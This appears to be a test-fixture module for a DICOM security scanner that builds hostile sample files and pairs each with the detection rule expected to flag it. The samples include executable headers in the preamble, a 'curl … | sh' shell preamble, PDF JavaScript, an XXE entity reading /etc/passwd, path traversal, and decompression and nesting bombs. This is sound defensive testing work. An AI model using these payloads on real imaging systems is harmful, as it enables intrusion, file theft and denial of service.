"""Hostile DICOM samples the scanner tests build themselves from pydicom's test files (issue #19):
each function returns the bytes of one file, and SAMPLES maps a name to (builder, expected rule)."""

from __future__ import annotations

import io
import struct
import subprocess
import tarfile
import warnings
import zipfile
import zlib
from collections.abc import Callable

import pydicom
from pydicom.data import get_testdata_file
from pydicom.dataset import Dataset, FileMetaDataset
from pydicom.uid import ExplicitVRLittleEndian, generate_uid

from pacsguard.scan.model import FileReport, Level

CT = "CT_small.dcm"
PDF_SOP_CLASS = "1.2.840.10008.5.1.4.1.1.104.1"


def base(name: str = CT) -> Dataset:
    return pydicom.dcmread(get_testdata_file(name))


def encode(ds: Dataset, preamble: bytes = bytes(128)) -> bytes:
    ds.preamble = preamble
    out = io.BytesIO()
    ds.save_as(out, enforce_file_format=True)
    return out.getvalue()


def ct(preamble: bytes = bytes(128)) -> bytes:
    return encode(base(), preamble)


def mz_header(lfanew: int) -> bytes:
    """A DOS header whose e_lfanew (0x3C) points at ``lfanew``."""
    head = bytearray(128)
    head[:2] = b"MZ"
    struct.pack_into("<I", head, 0x3C, lfanew)
    return bytes(head)


def pe_header() -> bytes:
    """PE signature and a COFF header for x86 (IMAGE_FILE_MACHINE_I386), one section."""
    return b"PE\x00\x00" + struct.pack("<HHIIIHH", 0x014C, 1, 0, 0, 0, 0xE0, 0x0102)


def pe_in_preamble() -> bytes:
    pre = bytearray(mz_header(0x40))
    pre[0x40:0x40 + 24] = pe_header()
    return ct(bytes(pre))


def pe_past_preamble() -> bytes:
    """CVE-2019-11687 as published: e_lfanew points into a private element of the data set."""
    ds = base()
    ds.private_block(0x0009, "PACSGUARD TEST", create=True).add_new(0x00, "OB", pe_header() + bytes(40))
    data = bytearray(encode(ds, mz_header(0)))
    at = data.find(pe_header())
    struct.pack_into("<I", data, 0x3C, at)
    return bytes(data)


def elf_preamble() -> bytes:
    return ct(b"\x7fELF\x02\x01\x01" + bytes(121))


def macho_preamble() -> bytes:
    return ct(b"\xcf\xfa\xed\xfe" + struct.pack("<I", 0x01000007) + bytes(120))


def macho_be_preamble() -> bytes:
    return ct(b"\xfe\xed\xfa\xce" + struct.pack(">I", 18) + bytes(120))


def macho_fat_preamble() -> bytes:
    return ct(b"\xca\xfe\xba\xbe" + struct.pack(">I", 2) + bytes(120))


def shell_preamble() -> bytes:
    return ct(b"#!/bin/sh\ncurl http://x.invalid/p | sh\nexit 0\n".ljust(128, b"\x00"))


def json_preamble() -> bytes:
    return ct(b'{"Name": "PWNED", "RemoteAccessAllowed": true}'.ljust(128, b" "))


def html_preamble() -> bytes:
    return ct(b"<html><script>fetch('//x.invalid')</script></html>".ljust(128, b"\x00"))


def zip_bytes(members: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as z:
        for name, content in members.items():
            z.writestr(name, content)
    return out.getvalue()


def tar_of(members: dict[str, bytes], mode: str = "w") -> bytes:
    """A tar archive of ``members`` (``mode`` "w:gz", "w:bz2", "w:xz" compresses it)."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=mode) as tar:  # type: ignore[call-overload]
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return out.getvalue()


def zip_preamble() -> bytes:
    return ct(zip_bytes({"a.txt": b"hello"}, zipfile.ZIP_STORED)[:128].ljust(128, b"\x00"))


def appended_zip() -> bytes:
    return ct() + zip_bytes({"payload.exe": mz_header(0x40)})


def trailing_garbage() -> bytes:
    return ct() + bytes(range(1, 97))


def elf_in_private() -> bytes:
    ds = base()
    ds.private_block(0x0009, "PACSGUARD TEST", create=True).add_new(0x01, "OB", b"\x7fELF\x02\x01\x01" + bytes(57))
    return encode(ds)


def pdf_document(body: bytes, mime: str = "application/pdf") -> bytes:
    ds = Dataset()
    ds.file_meta = FileMetaDataset()
    ds.file_meta.TransferSyntaxUID = ExplicitVRLittleEndian
    ds.file_meta.MediaStorageSOPClassUID = PDF_SOP_CLASS
    ds.SOPClassUID = PDF_SOP_CLASS
    ds.SOPInstanceUID = generate_uid()
    ds.file_meta.MediaStorageSOPInstanceUID = ds.SOPInstanceUID
    ds.StudyInstanceUID = generate_uid()
    ds.PatientID = "PAT-0042"
    ds.PatientName = "Test^Patient"
    ds.Modality = "DOC"
    ds.MIMETypeOfEncapsulatedDocument = mime
    ds.EncapsulatedDocument = body + (b"\x00" if len(body) % 2 else b"")
    return encode(ds)


PDF_JS = (b"%PDF-1.7\n1 0 obj <</Type /Catalog /OpenAction 2 0 R>> endobj\n"
          b"2 0 obj <</S /JavaScript /JS (app.alert\\(1\\))>> endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n")
PDF_CLEAN = b"%PDF-1.4\n1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n"


def pdf_javascript() -> bytes:
    return pdf_document(PDF_JS)


def pdf_hex_escaped() -> bytes:
    # ISO 32000-1 7.3.5: /J#61vaScript is /JavaScript to a viewer, not to a byte search.
    action = b"/Open#41ction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"
    return pdf_document(PDF_CLEAN.replace(b"/Pages 2 0 R", b"/Pages 2 0 R " + action))


def mime_mismatch() -> bytes:
    pre = bytearray(mz_header(0x40))
    pre[0x40:0x40 + 24] = pe_header()
    return pdf_document(bytes(pre))


def cda_xxe() -> bytes:
    xml = (b'<?xml version="1.0"?>\n<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'
           b"<ClinicalDocument>&x;</ClinicalDocument>\n")
    return pdf_document(xml, "text/xml")


def uid_traversal() -> bytes:
    ds = base()
    ds.SOPInstanceUID = "../../../../tmp/pwned"
    return encode(ds)


def markup_in_name() -> bytes:
    ds = base()
    ds.PatientName = "<script>alert(1)</script>"
    return encode(ds)


def rows_as_ul() -> bytes:
    """DICOMHawk's rule: Rows (0028,0010) written as UL, so readers disagree on the image size."""
    data = ct()
    at = data.find(b"\x28\x00\x10\x00US\x02\x00")
    return data[:at] + b"\x28\x00\x10\x00UL\x04\x00" + data[at + 8:at + 10] + b"\x00\x00" + data[at + 10:]


def meta_group_length_hides_ts() -> bytes:
    data = bytearray(ct())
    at = data.find(b"\x02\x00\x00\x00UL\x04\x00")
    struct.pack_into("<I", data, at + 8, 10)
    return bytes(data)


def _element(group: int, elem: int, vr: bytes, value: bytes) -> bytes:
    if vr in (b"OB", b"OW", b"SQ", b"UN", b"UT"):
        return struct.pack("<HH", group, elem) + vr + b"\x00\x00" + struct.pack("<I", len(value)) + value
    return struct.pack("<HH", group, elem) + vr + struct.pack("<H", len(value)) + value


def _with_dataset(body: bytes, ts: str = ExplicitVRLittleEndian) -> bytes:
    """A Part-10 file with a minimal meta group around ``body`` (already encoded)."""
    uid = ts.encode() + (b"\x00" if len(ts) % 2 else b"")
    meta = _element(0x0002, 0x0001, b"OB", b"\x00\x01") + _element(0x0002, 0x0010, b"UI", uid)
    group = _element(0x0002, 0x0000, b"UL", struct.pack("<I", len(meta)))
    return bytes(128) + b"DICM" + group + meta + body


def nesting_bomb(depth: int = 5000) -> bytes:
    """Sequences nested ``depth`` deep, each of undefined length, all closed properly."""
    open_one = struct.pack("<HH", 0x0040, 0xA730) + b"SQ\x00\x00" + b"\xff\xff\xff\xff" \
        + struct.pack("<HHI", 0xFFFE, 0xE000, 0xFFFFFFFF)
    close_one = struct.pack("<HHI", 0xFFFE, 0xE00D, 0) + struct.pack("<HHI", 0xFFFE, 0xE0DD, 0)
    return _with_dataset(_element(0x0008, 0x0060, b"CS", b"OT") + open_one * depth + close_one * depth)


def lying_length() -> bytes:
    """An OB element claiming almost 4 GiB in a small file: a reader that allocates first dies."""
    head = struct.pack("<HH", 0x0009, 0x1000) + b"OB\x00\x00" + struct.pack("<I", 0xFFFFFFF0)
    return _with_dataset(_element(0x0008, 0x0060, b"CS", b"OT") + head + bytes(64))


def unterminated() -> bytes:
    """A sequence and item of undefined length whose delimiters never come."""
    body = _element(0x0008, 0x0060, b"CS", b"OT") + struct.pack("<HH", 0x0040, 0xA730) + b"SQ\x00\x00" \
        + b"\xff\xff\xff\xff" + struct.pack("<HHI", 0xFFFE, 0xE000, 0xFFFFFFFF) + _element(0x0008, 0x0100, b"SH", b"X1")
    return _with_dataset(body)


def deflate_bomb(inflated: int = 40 * 1024 * 1024) -> bytes:
    """A deflated data set (PS3.5 A.5) of one private OB of zeros: ~40 KiB inflating ~1000x."""
    body = _element(0x0008, 0x0060, b"CS", b"OT") + struct.pack("<HH", 0x0009, 0x1000) + b"OB\x00\x00" \
        + struct.pack("<I", inflated)
    deflater = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    chunks = [deflater.compress(body)]
    zeros = bytes(1 << 20)
    for _ in range(inflated >> 20):
        chunks.append(deflater.compress(zeros))
    chunks.append(deflater.flush())
    return _with_dataset(b"".join(chunks), "1.2.840.10008.1.2.1.99")


def zip_bomb() -> bytes:
    return zip_bytes({"CT.dcm": ct(), "big.dcm": bytes(64 * 1024 * 1024)})


def dicomdir_traversal() -> bytes:
    ds = pydicom.dcmread(get_testdata_file("DICOMDIR"))
    record = next(r for r in ds.DirectoryRecordSequence if "ReferencedFileID" in r)
    record.ReferencedFileID = ["..", "..", "ETC", "PASSWD"]
    out = io.BytesIO()
    ds.save_as(out)
    return out.getvalue()


#: name -> (builder, the rule that must report it at high or critical)
SAMPLES: dict[str, tuple[Callable[[], bytes], str]] = {
    "pe_in_preamble": (pe_in_preamble, "preamble.pe"),
    "pe_past_preamble": (pe_past_preamble, "preamble.pe"),
    "elf_preamble": (elf_preamble, "preamble.elf"),
    "macho_preamble": (macho_preamble, "preamble.macho"),
    "macho_be_preamble": (macho_be_preamble, "preamble.macho"),
    "macho_fat_preamble": (macho_fat_preamble, "preamble.macho"),
    "shell_preamble": (shell_preamble, "preamble.script"),
    "json_preamble": (json_preamble, "preamble.json"),
    "html_preamble": (html_preamble, "preamble.script"),
    "zip_preamble": (zip_preamble, "preamble.zip"),
    "appended_zip": (appended_zip, "polyglot.appended-zip"),
    "elf_in_private": (elf_in_private, "embedded.elf"),
    "pdf_javascript": (pdf_javascript, "documents.pdf-active"),
    "pdf_hex_escaped": (pdf_hex_escaped, "documents.pdf-active"),
    "mime_mismatch": (mime_mismatch, "embedded.mime-mismatch"),
    "cda_xxe": (cda_xxe, "documents.xml-external-entity"),
    "uid_traversal": (uid_traversal, "structure.uid-path-traversal"),
    "markup_in_name": (markup_in_name, "structure.markup"),
    "rows_as_ul": (rows_as_ul, "structure.pixel-vr"),
    "meta_group_length": (meta_group_length_hides_ts, "structure.meta-group-length"),
    "nesting_bomb": (nesting_bomb, "structure.nesting-depth"),
    "lying_length": (lying_length, "structure.lying-length"),
    "unterminated": (unterminated, "structure.unterminated"),
    "deflate_bomb": (deflate_bomb, "structure.deflate-bomb"),
    "dicomdir_traversal": (dicomdir_traversal, "structure.fileid-traversal"),
}

def encapsulated(*fragments: bytes) -> bytes:
    """pydicom's RLE sample with its pixel data replaced by an empty offset table and these
    fragments (PS3.5 A.4)."""
    ds = pydicom.dcmread(str(get_testdata_file("SC_rgb_rle.dcm")))
    items = b"".join(struct.pack("<HHI", 0xFFFE, 0xE000, len(f)) + f for f in fragments)
    ds.PixelData = struct.pack("<HHI", 0xFFFE, 0xE000, 0) + items + struct.pack("<HHI", 0xFFFE, 0xE0DD, 0)
    ds["PixelData"].is_undefined_length = True
    out = io.BytesIO()
    ds.save_as(out, enforce_file_format=True)
    return out.getvalue()


# --- helpers the scanner tests share ---------------------------------------------------------------


def quiet(build: Callable[[], bytes]) -> bytes:
    """Run a builder with pydicom's warnings about the invalid values the samples are made of silenced."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return build()


def rules(report: FileReport) -> dict[str, Level]:
    """rule -> worst level."""
    out: dict[str, Level] = {}
    for f in report.findings:
        out[f.rule] = max(out.get(f.rule, Level.INFO), f.level)
    return out


def above(report: FileReport, level: Level) -> list[str]:
    return [f"{f.rule}={f.level.label}" for f in report.findings if f.level > level]


def stop_process(proc: subprocess.Popen) -> None:  # type: ignore[type-arg]
    """Terminate a peer started for a test (clamd), killed if it does not end within 20 s."""
    proc.terminate()
    try:
        proc.wait(timeout=20)
    except subprocess.TimeoutExpired:
        proc.kill()
        proc.wait()


def invoke(*args: object) -> tuple[int, str, str]:
    """Exit code, stdout and stderr of `pacsguard scan ARGS` in this process (200 columns)."""
    from typer.testing import CliRunner

    from pacsguard.cli import main

    result = CliRunner().invoke(main.app, ["scan", *map(str, args)], env={"COLUMNS": "200"})
    return result.exit_code, result.stdout, result.stderr


def scan_json(*args: object) -> tuple[int, dict]:
    """Exit code and JSON report of `pacsguard scan --format json ARGS`."""
    import json

    code, out, err = invoke("--format", "json", *args)
    assert out, err
    return code, json.loads(out)
